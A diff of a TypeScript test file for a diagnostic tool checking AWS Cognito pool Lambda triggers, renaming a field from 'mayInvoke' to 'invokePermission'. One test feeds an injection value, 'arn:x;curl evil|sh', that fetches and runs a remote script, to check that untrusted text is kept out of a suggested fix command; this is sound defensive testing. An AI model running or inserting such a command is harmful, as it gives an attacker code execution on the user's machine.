@@ -11,7 +11,7 @@ const facts: PoolFacts = {
   clients: [],
   trigger: undefined,
   expectedTrigger: undefined,
-  mayInvoke: undefined,
+  invokePermission: undefined,
   isFunctionGone: false,
   functionConfiguration: undefined,
   reservedConcurrency: undefined,
@@ -124,7 +124,7 @@ describe("the doctor's rules", () => {
   it("put no text that is no function's ARN into a command", () => {
     const pool = { Id: "eu-west-1_AbC123xyz" };
     const trigger = "arn:x;curl evil|sh";
-    expect(find("invoke-permission", { pool, trigger, mayInvoke: "no" })).toEqual([
+    expect(find("invoke-permission", { pool, trigger, invokePermission: "no" })).toEqual([
       expect.objectContaining({ fix: expect.stringMatching(/ --function-arn ARN$/) }),
     ]);
   });
